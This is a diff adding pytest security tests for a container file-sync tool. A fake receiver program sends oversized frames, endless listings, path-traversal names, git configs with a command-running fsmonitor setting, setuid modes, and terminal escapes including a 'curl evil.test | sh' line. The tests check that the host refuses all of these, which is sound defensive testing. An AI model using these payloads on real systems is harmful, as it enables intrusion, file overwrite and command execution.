@@ -470,3 +470,360 @@ def test_a_malformed_record_is_named_and_the_others_are_listed(
             each for each in json.loads(whole.stdout)["sessions"] if hostile_one.name in each["target"]
         )
         assert found["name"] == ESCAPES  # for a program it is all there
+
+
+# -- a container that runs a program of its own in the place of our receiver -----------------------------------------
+
+#: What `docker exec ... python3` starts in the hostile container: it speaks the stream, and then what the attack says.
+LIAR = """\
+#!/usr/bin/python3 -I
+import hashlib, json, os, struct
+LISTING, STATS, RESUME, DONE, FAILED, KEPT, REMOTE, FILE, PONG, ERROR = range(0xC2, 0xCC)
+DATA, END, DELETE, LIST, GET = 0x85, 0x86, 0x8B, 0x8D, 0x8E
+def read(count):
+    data = b""
+    while len(data) < count:
+        piece = os.read(0, count - len(data))
+        if not piece: raise SystemExit
+        data += piece
+    return data
+def take():
+    kind, head, body = struct.unpack("!BII", read(9))
+    return kind, json.loads(read(head) or "{}"), read(body)
+def say(kind, head=None, body=b"", text=None):
+    text = (json.dumps(head).encode() if head is not None else b"") if text is None else text
+    data = struct.pack("!BII", kind, len(text), len(body)) + text + body
+    while data: data = data[os.write(1, data):]
+def listing(*entries, end=True): say(LISTING, {"entries": list(entries), "end": end})
+def file(path, size, mode=0o644): return [path, "f", mode, size, "", "1"]
+def send(path, data, mode=0o644):
+    say(FILE, {"path": path, "size": len(data), "mode": mode, "mtime_ns": 1})
+    if data: say(DATA, {}, data)
+    say(END, {"digest": hashlib.sha256(data).hexdigest()})
+ready = {"version": 1, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True}
+read(int(read(8)))
+take()
+"""
+
+
+@pytest.fixture
+def liar(hostile: Callable[..., Box]) -> Callable[[str], Box]:
+    """A container whose python3 is the attacker's; `code` goes on after HELLO."""
+
+    def run(code: str) -> Box:
+        lines = ("COPY --chmod=755 python3 /evil/python3", "ENV PATH=/evil:/usr/bin:/bin", "RUN mkdir /loot")
+        return hostile(*lines, files={"python3": LIAR + textwrap.dedent(code)})
+
+    return run
+
+
+MEASURED = """
+import resource, subprocess, sys
+done = subprocess.run(sys.argv[1:])
+print("peak", resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)
+sys.exit(done.returncode)
+"""
+
+
+def measured(root: Path, *words: str) -> tuple[subprocess.CompletedProcess[str], int]:
+    """`dkdbg sync ...` to its end, and the most memory that it held; bytes."""
+    done = subprocess.run(
+        [sys.executable, "-c", MEASURED, sys.executable, "-m", "dkdbg", "sync", *words], cwd=root, capture_output=True,
+        text=True, check=False, stdin=subprocess.DEVNULL, timeout=120,
+    )  # fmt: skip
+    return done, int(done.stderr.rpartition("peak ")[2]) * 1024
+
+
+def bytes_below(folder: Path) -> int:
+    return sum(path.lstat().st_size for path in folder.rglob("*") if path.is_file() and not path.is_symlink())
+
+
+def refused_in_one_line(done: subprocess.CompletedProcess[str]) -> None:
+    assert done.returncode not in {0, -9}, done
+    assert "Traceback" not in done.stderr, done.stderr
+    assert done.stderr.count("dkdbg: ") == 1, done.stderr
+
+
+@pytest.mark.attack(17)
+@pytest.mark.parametrize(
+    "file",
+    [
+        'say(FILE, {"path": "out/a", "size": 3, "mode": 420, "mtime_ns": 1})',
+        'say(FILE, {"path": "out/a", "size": 267000000, "mode": 420, "mtime_ns": 1})',
+        'say(FILE, {"path": "out/a", "size": -1, "mode": 420, "mtime_ns": 1})',
+        'say(FILE, {"path": "out/a", "size": "3", "mode": 420, "mtime_ns": 1})',
+    ],
+    ids=["says 3", "says 267 MB", "says -1", "says text"],
+)
+def test_a_file_of_three_bytes_writes_three_bytes(root: Path, liar: Callable[[str], Box], file: str) -> None:
+    """Announces a file of 3 bytes for `--pull` and sends 267 MB: the stream is ended, and nothing of it stays."""
+    box = liar(f"""\
+        say(0xC1, ready); listing()
+        take(); listing(file("out/a", 3)); take()
+        {file}
+        for _ in range(255): say(DATA, {{}}, b"x" * 1048576)
+        say(END, {{"digest": "0" * 64}}); take()
+        """)
+    done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
+    refused_in_one_line(done)
+    assert "is not the receiver" in done.stderr
+    assert bytes_below(root / "dkdbg-pulled") < 1000
+    assert peak < 250e6
+
+
+@pytest.mark.attack(17)
+@pytest.mark.parametrize(
+    "endless",
+    [
+        'while True: listing(*[file("out/" + os.urandom(30).hex(), 1) for _ in range(2000)], end=False)',
+        'while True: listing(*[file("out/" + str(n) * 900, 1) for n in range(900)], end=False)',
+        "while True: listing(end=False)",
+        'while True: say(LISTING, text=b\'{"end": false, "entries": [\' + b"[]," * 300000 + b"[]]}")',
+    ],
+    ids=["names", "long names", "nothing", "lists"],
+)
+def test_a_listing_without_an_end_is_ended(root: Path, liar: Callable[[str], Box], endless: str) -> None:
+    """Lists files without an end: it is ended after 200,000, and the host's memory stays small."""
+    box = liar(f"""\
+        say(0xC1, ready)
+        if os.path.exists("/loot/pull"): listing(); take()
+        {endless}
+        """)
+    for words in [("--once",), ("--verify",), ("--pull", "out")]:
+        if words[0] == "--pull":
+            box.sh("touch /loot/pull")
+        done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", *words)
+        refused_in_one_line(done)
+        assert peak < 500e6
+
+
+@pytest.mark.attack(17)
+@pytest.mark.parametrize(
+    "header", ["!BII', 0xC2, 0xFFFFFFFF, 0", "!BII', 0xC2, 0, 0xFFFFFFFF", "!BII', 0x99, 1, 1", "!BII', 0x85, 0, 1048577"]
+)  # fmt: skip
+def test_a_frame_of_an_absurd_length_is_refused(root: Path, liar: Callable[[str], Box], header: str) -> None:
+    """Says that a frame has 4 GB: refused before they come."""
+    box = liar(f"""\
+        say(0xC1, ready); listing()
+        take()
+        os.write(1, struct.pack('{header}))
+        while True: os.write(1, b"x" * 65536)
+        """)
+    done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
+    refused_in_one_line(done)
+    assert peak < 250e6
+
+
+@pytest.mark.attack(17)
+def test_more_than_the_limit_is_refused_before_anything_is_written(
+    root: Path, liar: Callable[[str], Box]
+) -> None:
+    """Offers 20 GB, or a terabyte: nothing is written, and the error says how to take more."""
+    box = liar("""\
+        say(0xC1, ready); listing()
+        take(); listing(file("out/a", 20 * 10**9)); take()
+        """)
+    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
+    refused_in_one_line(done)
+    assert "20 GB to copy, and 10 GB are copied at most" in done.stderr
+    assert "--limit 21GB" in done.stderr
+    again = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out", "--limit", "900TB")
+    assert "copied at most" not in again.stderr
+    assert bytes_below(root / "dkdbg-pulled") < 1000
+
+
+@pytest.mark.attack(17)
+@pytest.mark.parametrize(
+    "path",
+    [
+        "../../../key2", "/tmp/key2", "out/../../../../key2", "out/a\\0b", "..", "", "out//../../key2", "out/./../../../key2",
+        "other/a", "../repository/train.py",
+    ],
+)  # fmt: skip
+def test_a_name_that_leads_out_is_never_written(root: Path, liar: Callable[[str], Box], path: str) -> None:
+    """Sends a file under a name with `..`, a `/` at its start or a NUL: refused, nothing is written outside of the folder."""
+    box = liar(f"""\
+        say(0xC1, ready); listing()
+        take(); listing(file("{path}", 4))
+        while take()[0] == GET: send("{path}", b"evil")
+        """)
+    before = {str(at.relative_to(root.parent)) for at in root.parent.rglob("*") if ".git/" not in str(at)}
+    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    after = {str(at.relative_to(root.parent)) for at in root.parent.rglob("*") if ".git/" not in str(at)}
+    assert {at for at in after - before if "dkdbg-pulled" not in at} == set()
+    assert not [
+        at for at in (root / "dkdbg-pulled").rglob("*") if at.is_file() and at.read_bytes() == b"evil"
+    ]
+    assert (root / "train.py").read_text() == "print(1)\n"
+
+
+@pytest.mark.attack(17)
+def test_settings_that_programs_execute_are_never_pulled(root: Path, liar: Callable[[str], Box]) -> None:
+    """Offers a .git with hooks and settings (spelled in all ways), a bare repository, an editor's tasks and an .envrc: git run
+    in what was pulled executes nothing, as none of them is taken."""
+    names = [
+        "out/.git/config", "out/.GIT/config", "out/sub/.git", "out/.g\u200cit/config", "out/git~1/config", "out/.git./config",
+        "out/.git::$INDEX_ALLOCATION/config", "out/.hg/hgrc", "out/.vscode/tasks.json", "out/.envrc", "out/.dkdbg/undo.json",
+        "out/HEAD", "out/objects/info/x", "out/refs/heads/x", "out/config", "out/model.txt",
+    ]  # fmt: skip
+    box = liar(
+        f"names = {names!r}\n"
+        + textwrap.dedent("""\
+        data = b'ref: refs/heads/main\\n[core]\\n\\tfsmonitor = touch /tmp/never; false\\n'
+        say(0xC1, ready); listing()
+        take()
+        folders = sorted({n.rpartition("/")[0] for n in names} | {"out/objects", "out/refs"})[1:]
+        listing(*[[n, "d", 0o755, 0, "", "1"] for n in folders], *[file(n, len(data)) for n in names])
+        while True:
+            kind, head, _ = take()
+            if kind != GET: break
+            send(head["path"], data)
+        """)
+    )
+    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
+    assert done.returncode == 0, done.stdout
+    place = root / "dkdbg-pulled" / box.name / "out"
+    assert sorted(str(at.relative_to(place)) for at in place.rglob("*")) == ["config", "model.txt"]
+    assert (
+        "left out: out/.git/config: .git is not taken from a target: programs here execute what it says"
+        in done.stdout
+    )
+    assert "git would take its folder for a repository" in done.stdout
+
+
+@pytest.mark.attack(17)
+def test_a_bare_repository_is_not_made_in_several_pulls_either(
+    root: Path, liar: Callable[[str], Box]
+) -> None:
+    """Sends HEAD at the first pull, objects at the second, refs at the third: the last one is not taken."""
+    box = liar("""\
+        step = len(os.listdir("/loot")); open("/loot/%d" % step, "w").close()
+        say(0xC1, ready); listing()
+        take()
+        if step: listing([["", "out/objects", "out/refs"][step], "d", 0o755, 0, "", "1"])
+        else: listing(file("out/HEAD", 4))
+        if take()[0] == GET: send("out/HEAD", b"ref:")
+        """)
+    for _ in range(3):
+        assert sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out").returncode == 0
+    place = root / "dkdbg-pulled" / box.name / "out"
+    assert sorted(at.name for at in place.iterdir()) == ["HEAD", "objects"]
+
+
+@pytest.mark.attack(17)
+def test_what_is_pulled_is_no_setuid_program_no_symlink_and_nobody_else_may_write_it(
+    root: Path, liar: Callable[[str], Box]
+) -> None:
+    """Sends a file with mode 6777 and a symlink to /etc: the file gets 755, and no symlink is made."""
+    box = liar("""\
+        say(0xC1, ready); listing()
+        take()
+        listing(file("out/a", 4), ["out/l", "l", 0o777, 4, "0" * 64, "1"])
+        take()
+        send("out/a", b"evil", 0o6777)
+        take()
+        """)
+    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--pull", "out")
+    assert done.returncode == 0, done.stderr
+    place = root / "dkdbg-pulled" / box.name / "out"
+    assert oct((place / "a").lstat().st_mode) == "0o100755"
+    assert [at.name for at in place.iterdir()] == ["a"]
+
+
+@pytest.mark.attack(0)
+@pytest.mark.parametrize(
+    "path", ["../key", "../nothing", "/etc/passwd", "pkg/../../key", "../" * 9 + "etc/passwd"]
+)
+def test_a_receiver_learns_nothing_of_files_outside(
+    root: Path, liar: Callable[[str], Box], path: str
+) -> None:
+    """Claims that sync has put `../key` there: whether the host asks to delete it would tell if it exists. The host says nothing."""
+    box = liar(f"""\
+        say(0xC1, ready)
+        listing(file("{path}", 1))
+        while True:
+            kind, head, _ = take()
+            with open("/loot/heard", "a") as heard: print(kind, json.dumps(head), file=heard)
+            if kind == 0x82: say(STATS, {{"entries": [], "end": True}})
+            elif "id" in head: say(DONE, {{"upto": head["id"]}})
+        """)
+    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--once")
+    refused_in_one_line(done)
+    assert "0x8b" not in box.read("/loot/heard")
+    assert str(0x8B) not in [line.split()[0] for line in box.read("/loot/heard").splitlines()]
+
+
+@pytest.mark.attack(0)
+@pytest.mark.parametrize("path", ["../key", ".git/config", "/etc/passwd", "train.py"])
+def test_a_probe_that_is_none_tells_nothing(root: Path, liar: Callable[[str], Box], path: str) -> None:
+    """Names a file of the host as the probe: the host would stop if it exists. It is refused, whether it does or not."""
+    box = liar(f"""\
+        ready["probe"] = "{path}"
+        say(0xC1, ready); listing(); take()
+        """)
+    done = sync(root, f"docker://{box.name}", "--to", "/ws", "--once")
+    refused_in_one_line(done)
+    assert "is not the receiver" in done.stderr
+
+
+ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
+
+
+@pytest.mark.attack(14)
+@pytest.mark.parametrize(
+    "code",
+    [
+        f'say(ERROR, {{"reason": "{ESCAPE}", "hint": "{ESCAPE}"}})',
+        f'os.write(2, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
+        f'os.write(1, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
+        f'ready.update(user="{ESCAPE}", root="/{ESCAPE}", python="{ESCAPE}"); say(0xC1, ready); say(ERROR, {{"reason": "{ESCAPE}"}})',
+        ('say(0xC1, ready); listing(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
+        '{"id": 1, "path": ESCAPE, "reason": ESCAPE, "hint": ESCAPE}); say(ERROR, {"reason": ESCAPE})'),
+        'say(0xC1, text=b"[" * 100000)',
+        'say(0xC1, text=b\'{"version": 1, "root": \' + b"[" * 100000)',
+        'say(0xC1, text=b\'{"version": \' + b"9" * 100000 + b"}")',
+    ],
+    ids=["error", "stderr", "banner", "ready", "failed", "deep", "deeper", "number"],
+)  # fmt: skip
+def test_text_of_the_receiver_commands_no_terminal(root: Path, liar: Callable[[str], Box], code: str) -> None:
+    """Sends terminal escapes, line breaks and odd JSON in all that it may say: one line, escaped, and no traceback."""
+    box = liar(f'ESCAPE = "{ESCAPE}"\n{code}\n')
+    for words in [
+        ("--once",),
+        ("--once", "--json"),
+        ("--verify",),
+        ("--verify", "--json"),
+        ("--pull", "out"),
+    ]:
+        done = sync(root, f"docker://{box.name}", "--to", "/ws", *words)
+        assert "Traceback" not in done.stderr, done.stderr
+        for char in "\x1b\x07\u202e":
+            assert char not in done.stdout + done.stderr
+        assert "\nhint: curl" not in done.stdout + done.stderr
+
+
+@pytest.mark.attack(14)
+def test_names_of_files_command_no_terminal(root: Path, hostile: Callable[..., Box]) -> None:
+    """Names files of its workspace, and the repository its own, with terminal escapes: all that sync says shows them escaped."""
+    box = hostile("RUN mkdir -p /ws/out")
+    name = "\x1b]0;owned\x07\nin sync: 7 files"
+    code = f"import os; os.chdir('/ws/out'); os.symlink('x', {name!r}); open({name + 'f'!r}, 'w')"
+    docker("exec", box.name, "python3", "-c", code)
+    (root / name).symlink_to("/etc/" + "\x1b[2J")
+    (root / (name + "f")).write_text("x")
+    for words in [
+        ("--once",),
+        ("--verify",),
+        ("--once", "--json"),
+        ("--verify", "--json"),
+        ("--pull", "out"),
+        ("--explain", name),
+    ]:
+        done = sync(
+            root, *([] if words[0] == "--explain" else [f"docker://{box.name}", "--to", "/ws"]), *words
+        )
+        assert "Traceback" not in done.stderr, done.stderr
+        assert "\x1b" not in done.stdout + done.stderr, words
+        assert "\nin sync: 7 files" not in done.stdout + done.stderr, words
